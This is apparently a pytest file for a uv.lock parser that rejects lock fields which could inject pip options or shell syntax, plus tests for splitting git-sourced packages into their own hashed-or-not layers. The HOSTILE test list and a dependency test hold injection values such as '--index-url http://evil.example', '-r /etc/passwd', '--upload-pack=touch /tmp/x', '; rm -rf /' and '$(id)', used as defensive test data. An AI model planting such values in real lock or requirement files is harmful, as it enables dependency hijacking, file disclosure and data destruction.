"""Issue 24: every uv.lock field that is later written as syntax is checked when the lock is
parsed (one LockError naming the entry and the value), real locks still parse, and a git line
gets a slice of its own so the rest of its layer keeps --require-hashes."""

from __future__ import annotations

import lzma
import tarfile
from pathlib import Path

import pytest

from gpurl_tasks.errors import LockError
from gpurl_tasks.plan.lock import load_lock, parse_lock
from gpurl_tasks.plan.model import Layer, PlannedPackage
from gpurl_tasks.plan.planner import assemble
from gpurl_tasks.plan.sizes import PackageSize
from gpurl_tasks.plan.slices import SliceLine, slice_line, split_unhashed
from tests.conftest import REPO_ROOT, SKYRL_COMMITS, skyrl_lock

HISTORY = REPO_ROOT.parent / "shared" / "data" / "skyrl-train-lock-history.tar.xz"
SHA = "sha256:" + "ab" * 32
COMMIT = "0123456789abcdef0123456789abcdef01234567"


def lock_text(*, name: str = "pyyaml", version: str = "6.0.4",
              source: str = '{ registry = "https://pypi.org/simple" }',
              url: str = "https://files.example/pyyaml-6.0.4-py3-none-any.whl",
              hash_: str = SHA, extra: str = "") -> str:
    return f'''version = 1
revision = 3
requires-python = ">=3.11"

[[package]]
name = "app"
version = "0.1.0"
source = {{ editable = "." }}
dependencies = [{{ name = "pyyaml" }}]

[[package]]
name = {_toml(name)}
version = {_toml(version)}
source = {source}
wheels = [{{ url = {_toml(url)}, hash = {_toml(hash_)}, size = 10 }}]
{extra}'''


def _toml(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def test_a_benign_lock_parses_and_its_slice_line_is_one_requirement() -> None:
    lock = parse_lock(lock_text())
    (pkg,) = [p for p in lock.packages if p.name == "pyyaml"]
    assert slice_line(pkg).requirement == f"pyyaml==6.0.4 --hash={SHA}"


HOSTILE = [
    ({"version": "6.0.4 --index-url http://evil.example/simple"}, r"package\[1\]\.version",
     "6.0.4 --index-url"),
    ({"version": "6.0.4\n-r /etc/passwd"}, r"package\[1\]\.version", "\\n-r"),
    ({"name": "pyyaml --index-url http://evil.example"}, r"package\[1\]\.name", "pyyaml --index"),
    ({"name": "-r/etc/passwd"}, r"package\[1\]\.name", "-r/etc/passwd"),
    ({"hash_": "sha256:ab --index-url http://evil.example"}, r"wheels\[0\]\.hash", "sha256:ab"),
    ({"hash_": "sha256:" + "ab" * 31}, r"wheels\[0\]\.hash", "sha256:abab"),
    ({"hash_": "sha256:" + "AB" * 32}, r"wheels\[0\]\.hash", "sha256:ABAB"),
    ({"url": "https://files.example/x.whl --trusted-host evil"}, r"wheels\[0\]\.url", "x.whl"),
    ({"url": "javascript:alert(1)"}, r"wheels\[0\]\.url", "javascript"),
    ({"source": '{ registry = "https://pypi.org/simple\\n-r /etc/passwd" }'},
     r"source\.registry", "pypi.org"),
    ({"source": '{ registry = "--index-url=http://evil.example" }'}, r"source\.registry",
     "--index-url"),
    ({"source": '{ git = "--upload-pack=touch /tmp/x#' + COMMIT + '" }'}, r"source\.git",
     "--upload-pack"),
    ({"source": '{ git = "https://example.com/r?rev=main#main" }'}, r"source\.git",
     "#<commit id>"),
    ({"source": '{ url = "https://example.com/a b.whl" }'}, r"source\.url", "a b.whl"),
    ({"extra": '[package.optional-dependencies]\n"x y" = []\n'},
     r"optional-dependencies\.x y", "x y"),
]


@pytest.mark.parametrize(("fields", "where", "value"), HOSTILE,
                         ids=[str(i) for i in range(len(HOSTILE))])
def test_a_hostile_lock_field_is_one_error_naming_the_entry_and_value(
        fields: dict[str, str], where: str, value: str) -> None:
    with pytest.raises(LockError, match=where) as info:
        parse_lock(lock_text(**fields))
    assert value in info.value.message, info.value.message
    assert "\n" not in info.value.message


def test_dependency_fields_are_checked_too() -> None:
    text = lock_text().replace('dependencies = [{ name = "pyyaml" }]',
                               'dependencies = [{ name = "pyyaml", version = "6 ; rm -rf /" }]')
    with pytest.raises(LockError, match=r"package\[0\] \(app\)\.dependencies\[0\]\.version"):
        parse_lock(text)
    text = lock_text().replace('dependencies = [{ name = "pyyaml" }]',
                               'dependencies = [{ name = "pyyaml", extra = ["$(id)"] }]')
    with pytest.raises(LockError, match=r"dependencies\[0\]\.extra\[0\]"):
        parse_lock(text)


def _real_locks() -> list[Path]:
    found = [REPO_ROOT / "uv.lock", REPO_ROOT / "rl" / "uv.lock",
             *sorted((REPO_ROOT / "examples").glob("*/uv.lock")),
             *sorted((REPO_ROOT / "examples").glob("*/*/uv.lock")),
             *(skyrl_lock(commit) for commit in SKYRL_COMMITS)]
    return [p for p in found if p.exists()]


@pytest.mark.parametrize("path", _real_locks(),
                         ids=lambda p: str(p.relative_to(p.parents[1])))
def test_real_locks_still_parse(path: Path) -> None:
    lock = load_lock(path)
    assert lock.packages
    for pkg in lock.packages:
        if not pkg.is_local:
            slice_line(pkg)  # every real source kind gives a checked line


def test_the_whole_lock_history_still_parses() -> None:
    if not HISTORY.exists():
        pytest.skip(f"lock history not present at {HISTORY}")
    with lzma.open(HISTORY) as raw, tarfile.open(fileobj=raw) as tar:
        members = [m for m in tar.getmembers() if m.name.endswith(".uv.lock")]
        assert len(members) == 20
        for member in members:
            handle = tar.extractfile(member)
            assert handle is not None
            lock = parse_lock(handle.read().decode(), source=member.name)
            assert len(lock.packages) > 100


def test_split_unhashed_gives_git_lines_their_own_slice_below() -> None:
    buckets = [("torch", ["torch", "nvidia"]), ("tail", ["six", "harbor", "idna"])]
    out, shared = split_unhashed(buckets, lambda n: n != "harbor", shared=1)
    assert out == [("torch", ["torch", "nvidia"]), ("tail-git", ["harbor"]),
                   ("tail", ["six", "idna"])]
    assert shared == 1
    # a bucket of git lines alone, or of hashed lines alone, is left as it is
    assert split_unhashed([("tail-git", ["harbor"])], lambda n: False)[0] == [("tail-git", ["harbor"])]
    # the shared count follows a split shared bucket; labels stay unique
    out, shared = split_unhashed([("a", ["x", "g"]), ("a-git", ["h"])], lambda n: n == "x",
                                 shared=1)
    assert [label for label, _ in out] == ["a-git-2", "a", "a-git"] and shared == 2


def _size(name: str) -> PackageSize:
    return PackageSize(name=name, version="1.0", compressed_bytes=1000, installed_bytes=None,
                       source="lock", artifact=None)


def test_a_git_source_no_longer_drops_require_hashes_for_its_layer() -> None:
    lines = {"six": SliceLine(requirement=f"six==1.0 --hash={SHA}", index="https://pypi.org/simple",
                              hashed=True),
             "harbor": SliceLine(requirement=f"harbor @ git+https://example.com/h@{COMMIT}",
                                 index=None, hashed=False)}
    sizes = [_size("six"), _size("harbor")]
    plan = assemble([("tail", sizes)], sizes, kept=False, cap=10**6, basis="compressed",
                    sync_flags=(), local=(), provided=(), history=0, lines=lines)
    assert [(layer.name, layer.hashed, layer.names) for layer in plan.layers] == [
        ("00-tail-git", False, ("harbor",)), ("01-tail", True, ("six",))]
    assert all(isinstance(layer, Layer) and all(isinstance(p, PlannedPackage)
                                                for p in layer.packages) for layer in plan.layers)
